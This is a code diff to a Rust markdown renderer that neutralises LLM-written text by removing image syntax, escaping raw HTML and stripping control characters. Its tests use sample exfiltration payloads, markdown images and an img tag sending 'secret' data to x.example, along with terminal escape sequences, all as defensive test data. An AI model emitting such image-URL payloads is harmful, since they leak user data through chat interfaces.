@@ -222,20 +222,40 @@ impl Playbook {
 }
 
 /// Keeps an LLM-written item from breaking the markdown structure around it, and from
-/// acting when rendered: control characters go, and an image (`![…](url)`, which a chat UI
-/// fetches unasked — a way out for whatever the URL carries) becomes a plain link.
+/// acting when rendered: control characters go, an image (`![…](url)`, which a chat UI
+/// fetches unasked — a way out for whatever the URL carries) becomes a plain link, and a `<`
+/// is escaped, so no raw HTML (`<img src=…>`) is rendered either.
 fn one_line(text: &str) -> String {
+    let mut inert = String::with_capacity(text.len());
+    for c in flattened(text).chars() {
+        match c {
+            // Every `!` before the bracket: "!![x](url)" with one removed is still an image.
+            '[' => {
+                while inert.ends_with('!') {
+                    inert.pop();
+                }
+                inert.push('[');
+            }
+            '<' => inert.push_str("\\<"),
+            c => inert.push(c),
+        }
+    }
+    inert
+}
+
+/// The text on one line, without control characters.
+fn flattened(text: &str) -> String {
     text.split_whitespace()
         .map(|word| word.chars().filter(|c| !c.is_control()).collect::<String>())
         .filter(|word| !word.is_empty())
         .collect::<Vec<_>>()
         .join(" ")
-        .replace("![", "[")
 }
 
-/// A key name inside the header's code span: a backtick would close it early.
+/// A key name inside the header's code span: a backtick would close it early. Nothing
+/// renders inside a code span, and an escape would show there as typed.
 fn in_code_span(name: &str) -> String {
-    one_line(name).replace('`', "'")
+    flattened(name).replace('`', "'")
 }
 
 #[cfg(test)]
@@ -394,7 +414,11 @@ mod tests {
     #[test]
     fn markdown_items_cannot_fetch_images_or_carry_control_characters() {
         let playbook = Playbook {
-            common_root_causes: vec!["see ![status](https://x.example/?d=secret)".into()],
+            common_root_causes: vec![
+                "see ![status](https://x.example/?d=secret)".into(),
+                "then !![again](https://x.example/?d=more) and <img src=https://x.example/i>"
+                    .into(),
+            ],
             investigation_steps: vec!["check \x1b[2Kevicted_keys \u{9b}31m".into()],
             key_skills: Vec::new(),
             anti_patterns: Vec::new(),
@@ -410,6 +434,11 @@ mod tests {
             md.contains("- see [status](https://x.example/?d=secret)"),
             "{md}"
         );
+        assert!(
+            md.contains("- then [again](https://x.example/?d=more) and \\<img src="),
+            "{md}"
+        );
+        assert!(!md.contains("!["), "{md}");
         assert!(md.contains("1. check [2Kevicted_keys 31m"), "{md}");
         assert!(!md.chars().any(|c| c.is_control() && c != '\n'), "{md}");
         assert!(md.contains("`redis') **forged**`"), "{md}");
